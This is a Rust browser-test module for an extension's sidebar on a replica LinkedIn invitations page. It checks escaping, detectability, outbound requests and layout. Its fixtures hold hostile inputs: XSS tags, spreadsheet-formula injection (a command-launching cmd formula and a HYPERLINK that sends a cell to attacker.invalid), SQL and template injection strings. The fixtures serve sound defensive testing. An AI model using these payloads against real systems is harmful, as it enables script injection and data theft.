//! What the page can and cannot see, and what it may throw at us.

use anyhow::{Result, ensure};
use serde_json::{Value, json};

use super::three;
use crate::browser::Kind;
use crate::pages::replica::Replica;
use crate::pages::sidebar::{Sidebar, hook};
use crate::wait::until;
use crate::world::World;

/// What the sidebar shows of some of the hostile senders, to the letter: name, headline, message.
const EXACT: [[&str; 4]; 8] = [
    [
        "img-onerror",
        "<img src=x onerror=alert(1)>",
        "<script>document.title=\"owned\"</script>",
        "<img src=x onerror=\"window.owned=1\"> </script><script>window.owned=2</script>",
    ],
    [
        "equals-cmd",
        "=cmd|'/C calc'!A0",
        "=HYPERLINK(\"https://attacker.invalid/?q=\"&A1,\"click\")",
        "+SUM(1+1)*cmd|' /C calc'!A0",
    ],
    // Nothing that turns the direction of what stands around it.
    ["rlo-name", "gnp.elpmaS aiM", "Abc fed ghi isolated", "Please pay to knab eht and not to the bank"],
    ["null", "null", "undefined", "[object Object]"],
    ["__proto__", "__proto__", "constructor", "toString"],
    ["constructor", "Robert\"); DROP TABLE people;--", "' OR 1=1 --", "${7*7} {{7*7}} #{7*7} %s%s%n"],
    ["accept-ignore", "Accept Ignoré", "Accept Ignore Accept", "Accept"],
    ["template", "{n} and {t} and {c}", "{n}", "{n}"],
];

pub async fn hostile_texts_stay_text(world: &mut World) -> Result<()> {
    let mut scenario = world.site.scenario_file("hostile")?;
    scenario["generation"] = json!("sdui2026");
    scenario["batch"] = json!(60);
    let people = scenario["invitations"].as_array().map(|all| all.iter().filter(|i| i["kind"] == "person").count());
    world.open_invitations(scenario).await?;
    Replica(&world.browser).ready().await?;
    let sidebar = Sidebar(&world.browser);
    let rows = until("senders", || sidebar.listed(), |rows| rows.len() >= people.unwrap_or(0) * 9 / 10).await?;

    world.step("looks at every one of them").await?;
    let mut exactly = 0;
    let sidebar = Sidebar(&world.browser);
    for address in &rows {
        let turned = json!({ "turn": { "to": address } });
        sidebar.eval("chrome.runtime.sendMessage(arguments[0]);", vec![turned]).await?;
        let current =
            "return document.querySelector('[data-test=\"sender-row\"][aria-current]')?.dataset.address ?? null;";
        until(&format!("the question about {address}"), || sidebar.eval(current, vec![]), |now| now == address).await?;
        let foreign = "return [...document.querySelectorAll('img, script:not([src]), iframe, style, [onerror], [onload], a[href^=\"javascript\"]')].map((e) => e.outerHTML);";
        let foreign = sidebar.eval(foreign, vec![]).await?;
        ensure!(foreign == json!([]), "{address}: sender's text became markup: {foreign}");
        let wide = "return document.documentElement.scrollWidth - document.documentElement.clientWidth;";
        let wide = sidebar.eval(wide, vec![]).await?;
        ensure!(wide.as_i64().unwrap_or(1) <= 1, "{address}: a text makes the sidebar scroll sideways by {wide}");
        if let Some([_, exact @ ..]) = EXACT.iter().find(|[slug, ..]| slug == address) {
            let texts = "return ['[data-test=name] bdi', '.who-headline bdi', '[data-test=quote] blockquote'] \
                         .map((css) => document.querySelector(css)?.textContent ?? null);";
            let texts = sidebar.eval(texts, vec![]).await?;
            ensure!(texts == json!(exact), "{address} is shown as {texts}");
            exactly += 1;
        }
    }
    ensure!(exactly >= 6, "only {exactly} of those whose texts are known were listed");
    let errors = world.browser.eval("return window.__replica.pageErrors;", vec![]).await?;
    ensure!(errors == json!([]), "{errors}");

    world.step("saves one of them and finds it unchanged").await?;
    let sidebar = Sidebar(&world.browser);
    sidebar.click(&hook("door-worked")).await?;
    sidebar.click(&hook("save")).await?;
    until("the note on disk", || world.stored(), |all| all.contains("worked")).await?;
    Ok(())
}

pub async fn nothing_can_be_told_from_the_page(world: &mut World) -> Result<()> {
    world.open_invitations(three()).await?;
    Sidebar(&world.browser).asks_about("Mia Sample").await?;
    world.step("types a secret in the sidebar").await?;
    Sidebar(&world.browser).click(&hook("door-met")).await?;
    Sidebar(&world.browser).fill(&hook("memory"), "zebra7").await?;

    world.step("the page looks for us").await?;
    let page = Replica(&world.browser);
    let keys = world.browser.eval("return window.__replica.keys.map((k) => k.key).join('');", vec![]).await?;
    ensure!(!keys.as_str().unwrap_or_default().contains('z'), "the page saw key strokes: {keys}");
    let strings = page.call("probe.extensionStrings", json!([])).await?;
    ensure!(strings == json!([]), "the page found {strings}");
    let frames = world.browser.eval("return window.length;", vec![]).await?;
    ensure!(frames == json!(0), "the page counts {frames} frames");
    let foreign = "return [...document.documentElement.children].filter((e) => !['head', 'body'].includes(e.localName)).map((e) => [e.outerHTML, e.shadowRoot]);";
    let foreign = world.browser.eval(foreign, vec![]).await?;
    ensure!(foreign == json!([["<div></div>", null]]), "the page finds {foreign}");
    let timings =
        "return performance.getEntriesByType('resource').map((e) => e.name).filter((n) => n.includes('extension:'));";
    ensure!(world.browser.eval(timings, vec![]).await? == json!([]), "a resource timing gives us away");
    let marks = "return [...document.querySelectorAll('body *')].filter((e) => [...e.getAttributeNames()].some((n) => /really|know|rk-/i.test(n))).length;";
    ensure!(world.browser.eval(marks, vec![]).await? == json!(0), "marks on the page's nodes");

    if world.browser.kind == Kind::Chromium {
        for probe in ["probe.fetchStatic", "probe.frameStatic"] {
            let address = format!("{}sidebar.html", world.browser.base);
            let loaded = page.call(probe, json!([address])).await?;
            ensure!(loaded == json!(false) || loaded.get("loaded") == Some(&json!(false)), "{probe}: {loaded}");
        }
    }
    Ok(())
}

pub async fn no_request_leaves(world: &mut World) -> Result<()> {
    world.open_invitations(three()).await?;
    Sidebar(&world.browser).asks_about("Mia Sample").await?;
    world.step("works for a while").await?;
    Sidebar(&world.browser).click(&hook("door-worked")).await?;
    Sidebar(&world.browser).click(&hook("save")).await?;
    Replica(&world.browser).has_focus_on("Accept Mia Sample").await?;
    Replica(&world.browser).click("mia-sample", "accept").await?;
    Replica(&world.browser).card("mia-sample", false).await?;
    world.browser.open_view("popup.html").await?;
    world.browser.close_tab().await?;

    world.step("reads the proxy's log").await?;
    // The page's own requests: itself, its files, and the one decision.
    let own = |request: &&String| {
        request.starts_with("GET /sc/")
            || request.starts_with("GET /mynetwork/")
            || request.starts_with("GET /favicon.ico")
            || *request == "POST /replica/act"
    };
    let others: Vec<String> = world.site.requests().iter().filter(|request| !own(request)).cloned().collect();
    ensure!(others.is_empty(), "requests that aren't the page's: {others:?}");
    // The browsers' own errands, which no switch turns off altogether.
    let errands = [
        "google.com:443",
        "googleapis.com:443",
        "gvt1.com:443",
        "mozilla.com:443",
        "mozilla.org:443",
        "mozilla.net:443",
        "firefox.com:443",
    ];
    let strange: Vec<String> =
        world.site.refused().into_iter().filter(|host| !errands.iter().any(|own| host.ends_with(own))).collect();
    ensure!(strange.is_empty(), "hosts nobody asked us about: {strange:?}");
    Ok(())
}

/// Every Accept and Ignore on the page: left, top, right, bottom.
const BUTTONS: &str = "return [...document.querySelectorAll('main button, main a[aria-label]')] \
    .filter((b) => /accept|ignore/i.test((b.getAttribute('aria-label') ?? '') + b.textContent) && b.checkVisibility()) \
    .map((b) => { const r = b.getBoundingClientRect(); return [r.left, r.top, r.right, r.bottom]; });";

pub async fn an_unreadable_page_is_said_to_be_one(world: &mut World) -> Result<()> {
    world.open_invitations(super::other_kinds_in(&world.site.clone(), "sdui2026")?).await?;
    until("the sidebar's tab", || world.browser.has_frame(), |mounted| *mounted).await?;
    world.step("opens the tab").await?;
    Sidebar(&world.browser).click(&hook("open-tab")).await?;
    Sidebar(&world.browser).shows(&hook("unsure"), "No invitation was found").await?;
    world.step("asks for a report of the layout").await?;
    Sidebar(&world.browser).click(&hook("describe")).await?;
    let value = "return document.querySelector('[data-test=\"layout\"]')?.value ?? '';";
    let sidebar = Sidebar(&world.browser);
    let report = until("the report", || sidebar.eval(value, vec![]), |text| text.as_str() != Some("")).await?;
    let report = report.as_str().unwrap_or_default();
    ensure!(report.starts_with("<!-- https://www.linkedin.com/mynetwork/"), "{report}");
    ensure!(report.contains("Accept") && report.contains("<main"), "{report}");
    ensure!(!report.contains("Greta") && !report.contains("greta") && !report.contains("Slow Letter"), "{report}");
    world.step("asks about somebody by their address").await?;
    Sidebar(&world.browser).fill("#ask-about", "https://www.linkedin.com/in/mia-sample/?x=1").await?;
    Sidebar(&world.browser).click(&hook("ask")).await?;
    Sidebar(&world.browser).asks_about("mia-sample").await?;
    Ok(())
}

/// One person's invitation at the left, and beside it entries of other kinds and uncertain ones, where the frame likes to stand.
const COLUMNS: &str = "<!DOCTYPE html><html lang=\"en\"><head><title>Invitations | LinkedIn</title><style>\
    main { display: grid; grid-template-columns: 380px 380px; justify-content: end; gap: 20px; padding: 80px 40px } \
    ul { padding: 0 } li { display: block; padding: 12px } button { float: inline-end }</style></head><body><main>\
    <ul><li><a href=\"/in/mia-sample/\">Mia Sample</a><p>is inviting you to connect</p>\
    <button aria-label=\"Ignore an invitation to connect from Mia Sample\">Ignore</button>\
    <button aria-label=\"Accept Mia Sample’s invitation\">Accept</button></li></ul>\
    <ul>ENTRIES</ul></main></body></html>";
const OTHER_KIND: &str = "<li><a href=\"/in/greta-other/\">Greta Other</a> <p>invited you to subscribe to \
    <a href=\"/newsletters/slow-letter-1/\">Slow Letter</a></p><button aria-label=\"Ignore an invitation from Greta Other\">Ignore\
    </button><button aria-label=\"Accept Greta Other’s invitation\">Accept</button></li>";
const UNCERTAIN: &str = "<li><a href=\"/in/luis-perhaps/\">Luis Perhaps</a> <a href=\"/in/ana-perhaps/\">Ana Perhaps</a>\
    <button>Ignore</button><button>Accept</button></li>";

/// Neither kind of entry is one of ours, and still the frame must not stand on its buttons.
pub async fn covers_no_button_of_others(world: &mut World) -> Result<()> {
    for (entries, what, whys) in [(OTHER_KIND, "others", ["thing"; 2]), (UNCERTAIN, "doubts", ["several", "unsure"])] {
        for (width, height) in [(1280, 800), (1440, 900), (1920, 1080)] {
            world.browser.set_size(width, height).await?;
            world.open_invitations(json!({ "html": COLUMNS.replace("ENTRIES", &entries.repeat(3)) })).await?;
            Sidebar(&world.browser).asks_about("Mia Sample").await?;
            let place = format!("{what} at {width}x{height}");
            let reviews = world.reviews().await?;
            // All three are known for what they are before the frame's place is measured.
            let left: Vec<&Value> =
                reviews[0]["leftAlone"].as_object().into_iter().flat_map(|all| all.values()).collect();
            ensure!(
                left.len() == 3 && left.iter().all(|why| whys.iter().any(|one| *why == one)),
                "{place}: {reviews:?}"
            );
            ensure!(reviews[0]["senders"].as_array().is_some_and(|all| all.len() == 1), "{place}: {reviews:?}");
            let buttons = world.browser.eval(BUTTONS, vec![]).await?;
            ensure!(buttons.as_array().is_some_and(|all| all.len() == 8), "{place}: {buttons}");
            let [left, top, wide, high] = world.browser.frame_rect().await?;
            ensure!(wide >= 300.0, "{place}: only {wide} wide");
            for button in buttons.as_array().into_iter().flatten() {
                let at = |n: usize| button.get(n).and_then(Value::as_f64).unwrap_or_default();
                let apart = at(2) <= left || at(0) >= left + wide || at(3) <= top || at(1) >= top + high;
                ensure!(apart, "{place}: the frame at {left},{top} {wide}x{high} covers a button at {button}");
            }
        }
    }
    Ok(())
}

pub async fn covers_no_button(world: &mut World) -> Result<()> {
    for generation in super::guard::GENERATIONS {
        for (width, height) in [(1280, 800), (1440, 900), (1920, 1080)] {
            world.browser.set_size(width, height).await?;
            world.open_invitations(super::three_in(generation, "en")).await?;
            Sidebar(&world.browser).asks_about("Mia Sample").await?;
            let place = format!("{generation} at {width}x{height}");
            let buttons = world.browser.eval(BUTTONS, vec![]).await?;
            ensure!(buttons.as_array().is_some_and(|all| all.len() >= 6), "{place}: {buttons}");
            let [left, top, wide, high] = world.browser.frame_rect().await?;
            ensure!(wide >= 300.0, "{place}: only {wide} wide");
            ensure!(
                left >= 0.0 && left + wide <= f64::from(width) && top + high <= f64::from(height),
                "{place}: outside"
            );
            for button in buttons.as_array().into_iter().flatten() {
                let at = |n: usize| button.get(n).and_then(Value::as_f64).unwrap_or_default();
                let apart = at(2) <= left || at(0) >= left + wide;
                ensure!(apart, "{place}: the frame at {left}..{} covers a button at {button}", left + wide);
            }
        }
    }
    world.step("opens a page that is written from right to left").await?;
    world.browser.set_size(1280, 800).await?;
    world.open_invitations(super::three_in("ember2018", "ar")).await?;
    Sidebar(&world.browser).asks_about("Mia Sample").await?;
    let [left, _, wide, _] = world.browser.frame_rect().await?;
    let name = "const r = document.querySelector('main a[href*=\"/in/mia-sample\"], [role=main] a[href*=\"/in/mia-sample\"]')\
        .getBoundingClientRect(); return r.left;";
    let name = world.browser.eval(name, vec![]).await?.as_f64().unwrap_or_default();
    ensure!(wide >= 300.0 && left + wide < name, "the frame at {left}..{} covers the name at {name}", left + wide);
    world.step("collapses").await?;
    Sidebar(&world.browser).click(&hook("collapse")).await?;
    until("the tab", || world.browser.frame_rect(), |rect| rect[2] < 100.0).await?;
    world.step("loads the page again: still collapsed").await?;
    world.open_invitations(three()).await?;
    until("the tab", || world.browser.frame_rect(), |rect| rect[2] < 100.0).await?;
    world.step("opens again").await?;
    Sidebar(&world.browser).click(&hook("open-tab")).await?;
    until("the panel", || world.browser.frame_rect(), |rect| rect[2] > 300.0).await?;
    world.step("a narrow window").await?;
    world.browser.set_size(600, 800).await?;
    until(
        "a sheet at the bottom",
        || world.browser.frame_rect(),
        |[left, top, wide, high]| *left <= 0.5 && *wide >= 599.0 && (*top + *high - 800.0).abs() < 1.5,
    )
    .await?;
    Ok(())
}
